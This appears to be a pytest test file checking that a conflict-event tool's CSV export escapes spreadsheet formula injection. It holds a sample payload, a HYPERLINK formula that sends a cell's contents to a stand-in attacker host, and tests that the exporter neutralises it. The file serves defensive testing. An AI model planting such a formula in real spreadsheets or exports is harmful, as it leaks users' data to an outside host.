"""CSV exports never hand a spreadsheet a formula: text cells starting with = + - @ tab CR
get a leading apostrophe; numbers (a negative latitude) stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from typer.testing import CliRunner

from sitrep.export import write_events
from sitrep.export.writers import csv_safe
from sitrep.models import EventFilter
from sitrep.store import Store
from tests.helpers import make_article, make_event, make_result

HOSTILE = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"open")'


def _fill(store: Store) -> None:
    a = make_article("a formula article", published="2021-07-05", source="@SUM(A1:A9)")
    event = make_event(
        "armed_clash",
        district="Argo",
        pcode="AF1504",
        province="Badakhshan",
        date="2021-07-04",
        actor1="+Fighters",
        actor2="-Defenders",
        lat=-12.5,
        lon=70.5,
        evidence=HOSTILE,
    )
    store.add_extraction(a, make_result(a, [event]))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_safe_prefixes_every_formula_start(start: str) -> None:
    assert csv_safe({"a": start + "1+1", "n": -3, "x": -1.5, "ok": "Taliban"}) == {
        "a": "'" + start + "1+1",
        "n": -3,
        "x": -1.5,
        "ok": "Taliban",
    }


def test_events_csv_escapes_formula_cells(store: Store) -> None:
    _fill(store)
    buf = io.StringIO()
    write_events(store.observed_events(EventFilter()), "csv", buf)
    (row,) = list(csv.DictReader(io.StringIO(buf.getvalue())))
    assert row["notes"] == "'" + HOSTILE
    assert row["source"] == "'@SUM(A1:A9)"
    assert row["actor1"] == "'+Fighters" and row["actor2"] == "'-Defenders"
    assert float(row["latitude"]) == -12.5  # a number, not escaped
    assert not any(v.startswith(("=", "+", "@")) for v in row.values())


def test_cli_export_csv_escapes_formula_cells(tmp_path: Path) -> None:
    import typer

    from sitrep.cli import store_cmd

    app = typer.Typer()
    store_cmd.register(app)
    url = f"sqlite:///{tmp_path / 'f.db'}"
    store = Store(url)
    _fill(store)
    store.close()
    out = tmp_path / "events.csv"
    r = CliRunner().invoke(app, ["export", "-f", "csv", "-o", str(out), "--db", url])
    assert r.exit_code == 0, r.output
    (row,) = list(csv.DictReader(out.open(encoding="utf-8")))
    assert row["notes"] == "'" + HOSTILE and row["source"] == "'@SUM(A1:A9)"
